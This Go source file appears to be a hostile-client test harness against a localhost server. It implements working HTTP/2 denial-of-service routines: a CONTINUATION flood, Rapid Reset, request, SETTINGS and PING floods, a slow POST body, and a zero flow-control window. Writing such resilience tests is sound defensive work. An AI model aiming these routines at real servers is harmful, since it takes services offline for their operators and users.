package evilbrowser

import (
	"bytes"
	"context"
	"crypto/tls"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// h2 begins HTTP/2 and has f go on with its frames.
func h2(f func(ctx context.Context, w *http2.Framer) error) func(context.Context, target, *tls.Conn) error {
	return func(ctx context.Context, _ target, c *tls.Conn) error {
		if _, err := c.Write([]byte(http2.ClientPreface)); err != nil {
			return err
		}
		w := http2.NewFramer(c, nil)
		if err := w.WriteSettings(); err != nil || f == nil {
			return err
		}
		return f(ctx, w)
	}
}

// block is the headers of a request.
func block(method, path string, more ...string) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	all := append([]string{":method", method, ":scheme", "https", ":path", path, ":authority", "localhost"}, more...)
	for i := 0; i < len(all); i += 2 {
		_ = e.WriteField(hpack.HeaderField{Name: all[i], Value: all[i+1]}) // a buffer takes all
	}
	return b.Bytes()
}

func halfHeaders(_ context.Context, w *http2.Framer) error {
	return w.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block("GET", "/")[:5]})
}

func continuations(ctx context.Context, w *http2.Framer) error {
	err := halfHeaders(ctx, w)
	more := block("GET", "/", "x-more", strings.Repeat("x", 8000))
	for err == nil {
		err = w.WriteContinuation(1, false, more)
	}
	return err
}

func rapidReset(_ context.Context, w *http2.Framer) (err error) {
	head := block("GET", "/")
	for id := uint32(1); err == nil; id += 2 {
		if err = w.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndHeaders: true, EndStream: true}); err == nil {
			err = w.WriteRSTStream(id, http2.ErrCodeCancel)
		}
	}
	return err
}

func requestFlood(_ context.Context, w *http2.Framer) (err error) {
	head := block("GET", "/")
	for id := uint32(1); err == nil; id += 2 {
		err = w.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndHeaders: true, EndStream: true})
	}
	return err
}

func settingsFlood(_ context.Context, w *http2.Framer) (err error) {
	for err == nil {
		err = w.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 16})
	}
	return err
}

func pingFlood(_ context.Context, w *http2.Framer) (err error) {
	for err == nil {
		err = w.WritePing(false, [8]byte{1})
	}
	return err
}

func slowBody(ctx context.Context, w *http2.Framer) error {
	err := w.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, EndHeaders: true, BlockFragment: block("POST", "/api/v1/signin/link",
		"origin", "https://localhost", "sec-fetch-site", "same-origin", "content-type", "application/json", "content-length", "60000")})
	for err == nil {
		if err = pause(ctx, time.Second); err == nil {
			err = w.WriteData(1, false, []byte(" "))
		}
	}
	return err
}

// noWindow asks for pages and gives no room for them.
func noWindow(_ context.Context, w *http2.Framer) error {
	if err := w.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
		return err
	}
	for id := uint32(1); id < 200; id += 2 {
		if err := w.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block("GET", "/LICENCES.txt"), EndHeaders: true, EndStream: true}); err != nil {
			return err
		}
	}
	return nil
}
